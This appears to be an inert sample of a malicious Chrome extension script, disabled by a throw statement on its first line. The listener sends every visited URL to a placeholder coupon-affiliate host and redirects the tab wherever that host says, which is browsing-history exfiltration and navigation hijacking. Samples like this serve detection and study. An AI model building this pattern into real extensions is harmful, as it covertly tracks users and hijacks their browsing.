throw new Error('inert sample');
chrome.webNavigation.onBeforeNavigate.addListener(async (details) => {
  const answer = await fetch('https://aff.coupon.example/r?u=' + encodeURIComponent(details.url));
  const { to } = await answer.json();
  if (to) chrome.tabs.update(details.tabId, { url: to });
});
